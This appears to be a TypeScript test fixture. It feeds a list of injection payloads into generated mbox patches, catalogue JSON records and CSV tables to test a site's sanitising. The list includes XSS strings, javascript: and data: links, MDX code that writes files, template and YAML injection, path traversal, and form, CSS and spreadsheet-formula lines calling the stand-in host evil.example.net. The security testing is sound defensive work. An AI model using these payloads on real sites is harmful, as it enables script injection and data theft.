/**
 * Texts that try to become more than text, each in every place where a mail, a catalogue line or a result file carries
 * outside text. What succeeds sets `window.hurt`, opens a dialog, asks `evil.example.net` for something, or leaves a
 * tag, attribute or style that is not the site's.
 */
export const evilHost = 'evil.example.net'

export const attacks: readonly (readonly [name: string, text: string])[] = [
  ['script element', '"><script>window.hurt=1;alert(1)</script>'],
  ['event handler', '<img src=x onerror="window.hurt=1;alert(1)">'],
  ['attribute, double quote', '" onmouseover="window.hurt=1" autofocus onfocus="alert(1)" x="'],
  ['attribute, single quote', "' onclick='window.hurt=1' autofocus onfocus='alert(1)' x='"],
  ['svg', '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s></svg>'],
  ['mathml', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>'],
  ['frame', `<iframe srcdoc="<script>parent.hurt=1</script>"></iframe><object data="//${evilHost}/x"></object>`],
  ['javascript link', '[x](javascript:alert(1)) javascript:alert(document.domain)'],
  [
    'data link',
    '[x](data:text/html,<script>alert(1)</script>) data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  ],
  ['refresh', `<meta http-equiv="refresh" content="0;url=https://${evilHost}/"><base href="https://${evilHost}/">`],
  ['form', `<form action="https://${evilHost}/"><button autofocus>x</button></form>`],
  ['image of another host', `![x](https://${evilHost}/x.png) <img src="https://${evilHost}/y.png">`],
  ['mdx expression', '{(globalThis.hurt = 1, process.exit(7))}'],
  ['mdx import', `import fs from 'node:fs'; export const hurt = fs.writeFileSync('hurt', '')`],
  ['mdx component', '<Case slug="x" /><Layout {...props} />{/* x */}'],
  ['template braces', "${alert(1)} {{constructor.constructor('alert(1)')()}} <%= alert(1) %> #{alert(1)}"],
  ['yaml', '&a [*a, !!js/function "function(){}"] *a !!binary x: - y # z'],
  ['yaml document', '"---\\ntitle: other\\n..." \'---'],
  ['closing tags', '</title></textarea></style></pre></details></head><script>alert(1)</script><!--'],
  ['json-ld', '"}</script><script>alert(1)</script>{"@type":"x'],
  ['cdata', ']]><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script><![CDATA['],
  [
    'css',
    `</style><style>*{background:url(https://${evilHost}/c)}</style>;background:url(//${evilHost}/d);x:expression(alert(1))`,
  ],
  ['bidi and tags', 'gpj\u202e.exe \u2066x\u2069 \u200bzero \u{e0041}\u{e0042} \u061c\u00ad'],
  ['controls', `a\u0000b\u001b]8;;https://${evilHost}\u0007c\u001b[31m\u0085\u007f`],
  ['traversal', '../../../../tmp/hurt ..\\..\\hurt %2e%2e%2fhurt /etc/hurt C:\\hurt'],
  ['prototype', '__proto__'],
  ['constructor', 'constructor'],
  ['formula', `=HYPERLINK("https://${evilHost}","x") @SUM(1) +1 -1`],
  ['address', 'Ada <ada@example.org> "ada"@example.org ada AT example DOT org ada=40example.org ada@localhost'],
  ['other scheme', `//${evilHost}/x vbscript:x file:///etc/passwd https://${evilHost}/"><script>alert(1)</script>`],
]

/** The text that carrier `place` of set `turn` holds: over all turns each attack meets each carrier. */
export function pickAttack(turn: number, place: number): string {
  return attacks[(turn * 7 + place) % attacks.length]?.[1] ?? ''
}

const oneLine = (text: string): string => text.replace(/[\r\n]/g, ' ')
/** A header takes any octet but line ends and NUL; a path no blank at its ends. */
const asId = (text: string): string => text.replace(/[\s<>"@();,'\u0000-\u001f\u007f-\u009f]/g, '')

/** A patch and a reply to it, an mbox, with an attack wherever a mail holds text of its own. */
export function buildAttackMail(turn: number): string {
  let place = 0
  const next = (): string => oneLine(pickAttack(turn, place++))
  const header = (subject: string, id: string, more: string): string =>
    [
      `From ada@example.org Mon Jan  6 10:0${turn % 10}:00 2025`,
      `From: "${next().replace(/["\\]/g, '\\$&')}" <ada@example.org>`,
      `Subject: ${subject} ${next()}`,
      'Date: Mon, 6 Jan 2025 10:00:00 +0000',
      `Message-ID: <${id}>`,
      `List-Id: ${next()} <list.example.org>`,
      more,
      'MIME-Version: 1.0',
      `Content-Type: text/plain; charset=utf-8; name="${next().replace(/["\\]/g, '\\$&')}"`,
      'Content-Transfer-Encoding: 8bit',
      '',
    ].join('\n')
  const id = `turn-${turn}${asId(next())}@example.org`
  const struct = next()
  const file = next()
  const diff = [
    `diff --git a/pond/${file} b/pond/${file}`,
    `--- a/pond/${file}`,
    `+++ b/pond/${file}`,
    `@@ -1,5 +1,5 @@ struct ${struct}`,
    ` struct nest { /* ${next()} */`,
    ` \tunsigned long eggs; /* ${next()} */`,
    `-\tspinlock_t lock; ${next()}`,
    `+\tspinlock_t lock ____cacheline_aligned; ${next()}`,
    ` \tchar name[8]; ${next()}`,
    ' };',
  ]
  const patch = [
    header(`[PATCH v2] pond ${turn}:`, id, `References: <${asId(next())}@example.org>\nIn-Reply-To: <${asId(next())}>`),
    `The lock and the eggs share a line: false sharing. ${next()}`,
    `On ${next()} with 64 CPUs, kernel ${next()}:`,
    '',
    `${next()}`,
    `    ${next().replace(/\s/g, '_')} throughput   1000 ops/s   1200 ops/s   +20.0%`,
    `${next()} improved by 12.5% (8000 -> 9000 ops/s)`,
    '',
    `struct nest { /* ${next()} */`,
    '\tlong unsigned int          eggs;                 /*     0     8 */',
    `\tspinlock_t                 ${next().replace(/\s/g, '_')};   /*     8     4 */`,
    '\t/* size: 16, cachelines: 1, members: 2 */',
    '};',
    '',
    `Link: ${next()}`,
    `Fixes: 0123456789ab ("${next()}")`,
    `Reviewed-by: ${next()} <bob@example.org>`,
    `Signed-off-by: ${next()}`,
    '---',
    `v1->v2: ${next()}`,
    '',
    ...diff,
    '-- ',
    next(),
    '',
  ].join('\n')
  const reply = [
    header(`Re: [PATCH v2] pond ${turn}:`, `answer-${turn}@example.org`, `In-Reply-To: <${id}>\nReferences: <${id}>`),
    ...diff.slice(0, 8).map((line) => `> ${line}`),
    '',
    `Not like this: ${next()}`,
    '',
    next(),
    '',
  ].join('\n')
  return `${patch}\n${reply}`
}

/** A catalogue line with an attack in each of its texts; its links are what the schema lets through. */
export function buildAttackFacts(turn: number, slug: string): string {
  let place = 3
  const next = (): string => pickAttack(turn, place++)
  const cut = (length: number): string => next().slice(0, length)
  return JSON.stringify({
    slug,
    title: `Catalogue ${turn}: ${next()}`,
    project: 'linux',
    language: cut(40),
    subsystem: next(),
    kind: 'false-sharing',
    technique: 'pad',
    author: next(),
    release: cut(100),
    messageId: `facts-${turn}${asId(next())}@example.org`,
    files: [next(), `../${next()}`],
    structs: [next(), next()],
    members: [{ struct: next(), name: next(), role: 'lock', roleNote: next() }],
    layouts: [
      {
        struct: next(),
        members: [
          { name: next(), offsetBytes: { before: 0, after: 0 } },
          { name: next(), offsetBytes: { before: 8, after: 64 } },
        ],
      },
    ],
    layoutNotes: [next()],
    benchmarks: [
      { suite: next(), test: next(), variant: next(), metric: next(), unit: next(), changePercent: 4, note: next() },
    ],
    machines: [next()],
    kernel: next(),
    evidenceNamed: [next()],
    c2c: { [next()]: 4 },
    cost: { text: next() },
    outcome: 'merged',
    outcomeNote: next(),
    supersededBy: next(),
    revertedBy: next(),
    fixes: next(),
    related: [next()],
    links: [`https://example.org/?q=${encodeURIComponent(next())}`],
    summary: next(),
    note: next(),
    confidence: 'low',
  })
}

/** A table of results with an attack in each text column. */
export function buildAttackTable(turn: number): string {
  let place = 11
  const cell = (): string => `"${oneLine(pickAttack(turn, place++)).replaceAll('"', '""')}"`
  const rows = Array.from({ length: 4 }, (_, row) => [cell(), cell(), cell(), cell(), 100 + row, 120 + row].join(','))
  return `suite,test,metric,unit,before,after\n${rows.join('\n')}\n`
}
